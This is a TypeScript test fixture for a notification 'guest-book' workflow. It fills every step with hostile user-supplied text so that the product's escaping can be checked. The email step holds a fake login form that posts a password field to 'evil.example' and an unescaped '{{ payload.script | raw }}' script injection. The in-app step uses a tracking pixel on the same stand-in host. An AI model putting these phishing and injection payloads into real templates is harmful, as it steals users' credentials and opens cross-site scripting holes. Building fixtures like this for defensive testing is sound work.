import { hostilePayload, hostileTexts } from "../hostile-text.ts";
import type { WorkflowDefinition } from "./definition.ts";

const named = {
  subject: "For {{ subscriber.firstName }}",
  body: "{{ payload.image }} {{ payload.bidi }} {{ payload.combining }}",
};

/** A workflow that carries what other people wrote, unchecked, into every place it can reach. */
export const hostileWorkflow: WorkflowDefinition = {
  identifier: "guest-book",
  name: `Guest book ${hostileTexts.style}`,
  description: hostileTexts.svg,
  group: "Team",
  origin: "external",
  tags: ["guest-book", hostileTexts.formula, hostileTexts.bidi],
  severity: "none",
  share: 0,
  age: 33,
  payloadSchema: { type: "object", additionalProperties: true },
  payload: () => hostilePayload,
  contexts: () => [`guest:${hostileTexts.lookAlike}`],
  steps: [
    {
      type: "in_app",
      name: hostileTexts.image,
      slug: "in-app",
      controls: {
        ...named,
        avatar: "https://evil.example/pixel.gif",
        primaryAction: { label: "{{ payload.bidi }}", redirect: { url: "{{ payload.link }}" } },
      },
    },
    {
      type: "email",
      name: hostileTexts.combining,
      slug: "email",
      controls: {
        subject: "{{ payload.formula }} {{ payload.control }}",
        body: `<p>{{ payload.script | raw }}</p>${hostileTexts.frame}<form action="https://evil.example"><input name=p type=password autofocus></form><a href="{{ payload.link }}">Larkfield</a>`,
      },
    },
    {
      type: "chat",
      name: "Chat",
      slug: "chat",
      controls: { body: "{{ payload.emoji }} {{ payload.zeroWidth }}" },
    },
    {
      type: "custom",
      name: hostileTexts.query,
      slug: "custom",
      controls: { text: "{{ payload.liquid }}" },
    },
  ],
};
